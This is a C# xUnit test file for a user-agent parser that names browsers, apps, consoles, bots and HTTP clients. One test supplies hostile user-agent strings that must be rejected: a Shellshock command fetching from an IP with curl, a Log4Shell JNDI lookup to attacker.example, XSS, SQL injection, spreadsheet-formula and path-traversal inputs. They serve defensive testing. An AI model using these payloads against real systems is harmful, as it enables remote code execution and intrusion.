using Holdfast.Features.Devices;
using Holdfast.Texts;
using Xunit;

namespace Holdfast.Tests.Features.Devices;

/// <summary>One example or two of each family that people sign in with, as it writes itself, and the name it gets.</summary>
public sealed class DeviceTests
{
    private const string WebKit = "AppleWebKit/537.36 (KHTML, like Gecko)";
    private const string Ios = "AppleWebKit/605.1.15 (KHTML, like Gecko)";
    private const string Win = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) " + WebKit;
    private const string Mac = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) " + WebKit;
    private const string Droid = "Mozilla/5.0 (Linux; Android 10; K) " + WebKit;
    private const string View = "Mozilla/5.0 (Linux; Android 14; SM-A556B Build/UP1A.231005.007; wv) " + WebKit + " Version/4.0 Chrome/131.0.6778.39 Mobile Safari/537.36";
    private const string Iphone = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) " + Ios;

    private static Device See(string agent) => Device.Recognise(agent, ClientHints.None);

    private static string Name(string agent) => See(agent).Name(Text.English, "Quayside");

    [Theory]
    [InlineData(Win + " Chrome/142.0.0.0 Safari/537.36", "Chrome on Windows", "142", "computer")]
    [InlineData(Mac + " Chrome/142.0.0.0 Safari/537.36", "Chrome on macOS", "142", "computer")]
    [InlineData("Mozilla/5.0 (X11; Linux x86_64) " + WebKit + " Chrome/141.0.0.0 Safari/537.36", "Chrome on Linux", "141", "computer")]
    [InlineData("Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) " + WebKit + " Chrome/140.0.0.0 Safari/537.36", "Chrome on ChromeOS", "140", "computer")]
    [InlineData(Droid + " Chrome/142.0.0.0 Mobile Safari/537.36", "Chrome on Android", "142", "phone")]
    [InlineData(Droid + " Chrome/142.0.0.0 Safari/537.36", "Chrome on Android", "142", "tablet")]
    [InlineData(Iphone + " CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1", "Chrome on iPhone", "131", "phone")]
    [InlineData(Win + " Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0", "Edge on Windows", "142", "computer")]
    [InlineData(Droid + " Chrome/141.0.0.0 Mobile Safari/537.36 EdgA/141.0.0.0", "Edge on Android", "141", "phone")]
    [InlineData(Iphone + " Version/17.0 EdgiOS/131.0.2903.68 Mobile/15E148 Safari/605.1.15", "Edge on iPhone", "131", "phone")]
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0", "Firefox on Windows", "145", "computer")]
    [InlineData("Mozilla/5.0 (Android 15; Mobile; rv:145.0) Gecko/145.0 Firefox/145.0", "Firefox on Android", "145", "phone")]
    [InlineData("Mozilla/5.0 (Android 14; Tablet; rv:140.0) Gecko/140.0 Firefox/140.0", "Firefox on Android", "140", "tablet")]
    [InlineData(Iphone + " FxiOS/133.0 Mobile/15E148 Safari/605.1.15", "Firefox on iPhone", "133", "phone")]
    [InlineData("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) " + Ios + " Version/18.1 Safari/605.1.15", "Safari on macOS", "18", "computer")]
    [InlineData(Iphone + " Version/17.6 Mobile/15E148 Safari/604.1", "Safari on iPhone", "17", "phone")]
    [InlineData("Mozilla/5.0 (iPad; CPU OS 16_7 like Mac OS X) " + Ios + " Version/16.6 Mobile/15E148 Safari/604.1", "Safari on iPad", "16", "tablet")]
    [InlineData(Win + " Chrome/130.0.0.0 Safari/537.36 OPR/115.0.0.0", "Opera on Windows", "115", "computer")]
    [InlineData(Droid + " Chrome/128.0.0.0 Mobile Safari/537.36 OPX/2.6", "Opera GX on Android", "2", "phone")]
    [InlineData("Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; id) Presto/2.12.423 Version/12.16", "Opera Mini on Android", "36", "phone")]
    [InlineData(Iphone + " Version/17.6 Mobile/15E148 Safari/604.1 OPT/5.2.0", "Opera Touch on iPhone", "5", "phone")]
    [InlineData(Droid + " SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36", "Samsung Internet on Android", "28", "phone")]
    [InlineData("Mozilla/5.0 (X11; Linux x86_64) " + WebKit + " SamsungBrowser/27.0 Chrome/125.0.0.0 Safari/537.36", "Samsung Internet on Android", "27", "computer")]
    [InlineData(Mac + " Chrome/131.0.0.0 Safari/537.36 Vivaldi/7.0.3495.15", "Vivaldi on macOS", "7", "computer")]
    [InlineData(Win + " Chrome/128.0.0.0 YaBrowser/24.10.0.0 Safari/537.36", "Yandex Browser on Windows", "24", "computer")]
    [InlineData("Mozilla/5.0 (Linux; U; Android 13; en-US; RMX3710 Build/SKQ1) " + WebKit + " Version/4.0 Chrome/100.0.4896.58 UCBrowser/13.7.2.1636 Mobile Safari/537.36", "UC Browser on Android", "13", "phone")]
    [InlineData("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) " + Ios + " Version/18.0 Safari/605.1.15 Ddg/18.0", "DuckDuckGo on macOS", "18", "computer")]
    [InlineData("Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", "Internet Explorer on Windows 7", "11", "computer")]
    [InlineData("Mozilla/5.0 (Linux; U; Android 4.1.2; it-it; GT-I8190 Build/JZO54K) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30", "Android Browser on Android", "4", "phone")]
    [InlineData("Mozilla/5.0 (X11; Linux x86_64) " + Ios + " Version/17.4 Safari/605.1.15", "GNOME Web on Linux", "17", "computer")]
    public void Browsers_are_told_apart(string agent, string name, string version, string type)
    {
        var device = See(agent);
        Assert.Equal((name, version, type), (Name(agent), device.BrowserVersion, device.Type));
    }

    [Theory]
    [InlineData(View, "Android WebView on Android")]
    [InlineData(View + " [FB_IAB/FB4A;FBAV/491.0.0.62.79;]", "Facebook on Android")]
    [InlineData(Iphone + " Mobile/15E148 [FBAN/MessengerForiOS;FBAV/485.1.0;FBDV/iPhone14,5;FBSN/iOS;FBLC/en_GB]", "Messenger on iPhone")]
    [InlineData(Iphone + " Mobile/15E148 Instagram 358.0.0.24.65 (iPhone15,2; iOS 17_6_1; en_GB; en; scale=3.00; 1179x2556; 658190203)", "Instagram on iPhone")]
    [InlineData(View + " musical_ly_2023701030 JsSdk/1.0 NetType/WIFI AppName/musical_ly app_version/37.1.3 BytedanceWebview/d8a21c6", "TikTok on Android")]
    [InlineData(Iphone + " Mobile/15E148 MicroMessenger/8.0.53(0x18003531) NetType/4G Language/en", "WeChat on iPhone")]
    [InlineData(View + " Line/14.19.1/IAB", "LINE on Android")]
    [InlineData(Iphone + " Version/17.6 Mobile/15E148 Snapchat/13.15.0.41 (like Safari/8618.3.11.10.5, panda)", "Snapchat on iPhone")]
    [InlineData(View + "Snapchat/13.16.0.38 (SM-A556B; Android 14#A556BXXS5AXJ3#34; gzip)", "Snapchat on Android")]
    [InlineData(View + " [Pinterest/Android]", "Pinterest on Android")]
    [InlineData(Iphone + " Mobile/15E148 [LinkedInApp]/9.30.1", "LinkedIn on iPhone")]
    [InlineData(Iphone + " Mobile/15E148 Twitter for iPhone/10.64", "X on iPhone")]
    [InlineData(Iphone + " GSA/343.0.695551749 Mobile/15E148 Safari/604.1", "Google app on iPhone")]
    [InlineData(Iphone + " Mobile/15E148", "Safari on iPhone")]
    public void Apps_that_show_the_page_themselves_are_named_instead_of_their_engine(string agent, string name) => Assert.Equal(name, Name(agent));

    [Theory]
    [InlineData("Mozilla/5.0 (PlayStation; PlayStation 5/9.60) " + Ios + " Version/16.4 Safari/605.1.15", "PlayStation 5", "console")]
    [InlineData("Mozilla/5.0 (Nintendo Switch; WebApplet) AppleWebKit/613.0 (KHTML, like Gecko) NF/6.0.3.25.0 NintendoBrowser/5.1.0.32061", "Nintendo Browser on Nintendo Switch", "console")]
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) " + WebKit + " Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0", "Edge on Xbox", "console")]
    [InlineData("Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) " + WebKit + " 94.0.4606.31/7.0 TV Safari/537.36", "Samsung Internet on Tizen", "tv")]
    [InlineData("Mozilla/5.0 (Web0S; Linux/SmartTV) " + WebKit + " Chrome/94.0.4606.128 Safari/537.36 WebAppManager", "Chrome on webOS", "tv")]
    [InlineData("Mozilla/5.0 (Linux; Android 9; AFTSSS) " + WebKit + " Silk/130.4.1 like Chrome/130.0.6723.102 Safari/537.36", "Silk on Fire TV", "tv")]
    [InlineData("Mozilla/5.0 (Linux; Android 11; KFTRWI) " + WebKit + " Silk/130.4.1 like Chrome/130.0.6723.102 Safari/537.36", "Silk on Fire tablet", "tablet")]
    [InlineData("Mozilla/5.0 (Linux; Android 12; BRAVIA VU3 Build/STT1.230203.001; wv) " + WebKit + " Version/4.0 Chrome/130.0.6723.58 Mobile Safari/537.36", "Android WebView on Android TV", "tv")]
    [InlineData("AppleTV14,1/17.6", "Apple TV", "tv")]
    [InlineData("Roku/DVP-14.0 (14.0.4.4212-AE)", "Roku", "tv")]
    [InlineData("Mozilla/5.0 (Linux; Android 10; Quest 3) " + WebKit + " OculusBrowser/35.1.0.4 Chrome/130.0.6723.102 VR Safari/537.36", "Meta Quest Browser on Android", "other")]
    [InlineData("Mozilla/5.0 (Mobile; Nokia 2780 Flip; rv:84.0) Gecko/84.0 Firefox/84.0 KAIOS/3.1", "Firefox on KaiOS", "phone")]
    [InlineData("Mozilla/5.0 (Phone; OpenHarmony 5.0) " + WebKit + " Chrome/114.0.0.0 Safari/537.36 ArkWeb/4.1.6.1 Mobile HuaweiBrowser/5.1.3.300", "Huawei Browser on HarmonyOS", "phone")]
    [InlineData("Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; Lumia 650) " + WebKit + " Chrome/52.0.2743.116 Mobile Safari/537.36 Edge/15.15254", "Edge on Windows Phone", "phone")]
    public void Consoles_televisions_and_rarer_things_are_known(string agent, string name, string type) => Assert.Equal((name, type), (Name(agent), See(agent).Type));

    [Theory]
    [InlineData("curl/8.11.0", "curl", "terminal")]
    [InlineData("Wget/1.24.5", "Wget", "terminal")]
    [InlineData("python-requests/2.32.3", "python-requests", "app")]
    [InlineData("Python/3.12 aiohttp/3.10.5", "aiohttp", "app")]
    [InlineData("Go-http-client/2.0", "Go", "app")]
    [InlineData("okhttp/4.12.0", "okhttp", "app")]
    [InlineData("Java/21.0.5", "Java", "app")]
    [InlineData("Apache-HttpClient/5.4.1 (Java/21.0.5)", "HttpClient", "app")]
    [InlineData("axios/1.7.7", "axios", "app")]
    [InlineData("node", "node", "app")]
    [InlineData("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "node-fetch", "app")]
    [InlineData("PostmanRuntime/7.43.0", "PostmanRuntime", "app")]
    [InlineData("GuzzleHttp/7 curl/8.5.0 PHP/8.3.13", "Guzzle", "app")]
    public void Programs_that_speak_to_the_API_say_so(string agent, string program, string icon)
    {
        var device = See(agent);
        Assert.Equal((program, "program", icon), (device.Browser, device.Type, device.Icon));
        Assert.Equal(program, device.Name(Text.English, "Quayside"));
        Assert.Equal($"Quayside API by {program}", Device.Recognise(agent, ClientHints.None with { ByApi = true }).Name(Text.English, "Quayside"));
    }

    [Theory]
    [InlineData("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot")]
    [InlineData("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/136.0.0.0 Safari/537.36", "Bingbot")]
    [InlineData("Mozilla/5.0 (compatible; QuayHarvestBot/0.3)", "Web robot")]
    [InlineData("tide-crawler/2 (crawler@tide.example)", "Web robot")]
    [InlineData("TideWatch/1.0 (+https://tide.example/about)", "Web robot")]
    public void Robots_are_robots_and_lend_us_no_words(string agent, string name) => Assert.Equal((name, "bot"), (Name(agent), See(agent).Type));

    [Fact]
    public void A_telephone_of_the_make_CUBOT_is_no_robot()
    {
        foreach (var model in new[] { "CUBOT P80", "CUBOT", "Original CUBOT X" }) Assert.Equal("Chrome on Android", Name($"Mozilla/5.0 (Linux; Android 13; {model}) {WebKit} Chrome/120.0.0.0 Mobile Safari/537.36"));
    }

    [Theory]
    [InlineData("")]
    [InlineData("-")]
    [InlineData("Mozilla/5.0")]
    [InlineData("Mozilla/5.0 (compatible)")]
    [InlineData("QuaysideSync/2.1")]
    [InlineData("curl")]
    [InlineData("not curl/8.0 but somebody who says so")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData(Win + " Chrome/142.0.0.0 Safari/537.36 <img src=x onerror=alert(1)>")]
    [InlineData("() { :;}; /bin/sh -c 'curl/8 http://203.0.113.5/x'")]
    [InlineData("${jndi:ldap://attacker.example/Chrome/1}")]
    [InlineData("' OR '1'='1")]
    [InlineData("=HYPERLINK(\"x\")")]
    [InlineData("..\\..\\Windows\\Chrome/1")]
    [InlineData("Chrome on Windows 11, checked and safe")]
    [InlineData("🐎🔋 Сhrome/1")]
    public void What_is_wrong_empty_or_hostile_is_an_unknown_device(string agent)
    {
        // A word such as Windows in it may stand; a browser's name must not.
        var device = See(agent);
        Assert.Null(device.Browser);
        Assert.Contains(Name(agent), new[] { "Unknown device", "Windows" });
    }

    [Fact]
    public void Eight_kilobytes_are_no_browser_however_they_begin()
    {
        foreach (var agent in new[] { new string('x', 8192), new string('(', 8192), new string('/', 8192), Win + " Chrome/142.0.0.0 Safari/537.36 " + new string('y', 8000), string.Concat(Enumerable.Repeat("Chrome/1 Windows ", 500)) })
        {
            Assert.Equal(Device.Unknown, See(agent));
        }
        // Cut by the time it is kept: the mark stays.
        Assert.Equal(Device.Unknown, Device.Recognise(Win + " Chrome/142.0.0.0 Safari/537.36", ClientHints.None with { AgentTooLong = true }));
    }

    [Theory]
    [InlineData(Win + " Chrome/142.0.0.0 Safari/537.36", null)]
    [InlineData(Win + " Chrome/64.0.3282.140 Safari/537.36 Edge/18.17763", "10")]
    [InlineData("Mozilla/5.0 (Windows NT 6.3; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0", "8.1")]
    [InlineData(Mac + " Chrome/142.0.0.0 Safari/537.36", null)]
    [InlineData("Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:145.0) Gecko/20100101 Firefox/145.0", null)]
    [InlineData("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) " + Ios + " Version/13.1.2 Safari/605.1.15", "10.13")]
    [InlineData("Mozilla/5.0 (Macintosh; Intel Mac OS X 11_2_3) " + WebKit + " Chrome/89.0.4389.90 Safari/537.36", "11")]
    [InlineData(Droid + " Chrome/142.0.0.0 Mobile Safari/537.36", null)]
    [InlineData("Mozilla/5.0 (Linux; Android 10; SM-G973F) " + WebKit + " Chrome/100.0.4896.127 Mobile Safari/537.36", "10")]
    [InlineData("Mozilla/5.0 (Linux; Android 8.1.0; Nexus 5X) " + WebKit + " Chrome/90.0.4430.91 Mobile Safari/537.36", "8.1")]
    [InlineData(Iphone + " Version/17.6 Mobile/15E148 Safari/604.1", "17.6")]
    [InlineData("Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) " + Ios + " Version/18.6 Mobile/15E148 Safari/604.1", "18.6")]
    [InlineData("Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) " + Ios + " Version/26.0 Mobile/15E148 Safari/604.1", "26")]
    [InlineData("Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) " + Ios + " CriOS/142.0.7444.77 Mobile/15E148 Safari/604.1", null)]
    [InlineData("Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) " + WebKit + " Chrome/140.0.0.0 Safari/537.36", null)]
    public void A_version_of_the_system_is_told_only_where_it_is_true(string agent, string? version) => Assert.Equal(version, See(agent).SystemVersion);

    [Theory]
    [InlineData("Mozilla/5.0 (iPad; CPU OS 12_5_7 like Mac OS X) " + Ios + " Version/12.1.2 Mobile/15E148 Safari/604.1", "iOS")]
    [InlineData("Mozilla/5.0 (iPad; CPU OS 15_8 like Mac OS X) " + Ios + " Version/15.6 Mobile/15E148 Safari/604.1", "iPadOS")]
    [InlineData("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) " + Ios + " Mobile/15E148", "iPadOS")]
    [InlineData("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) " + Ios + " CriOS/131 Version/11.1.1 Safari/605.1.15", "iPadOS")]
    [InlineData("Quayside/412 CFNetwork/1498.700.2 Darwin/23.6.0", "iOS")]
    public void Apple_s_systems_go_by_their_own_names(string agent, string system) => Assert.Equal(system, See(agent).System);
}
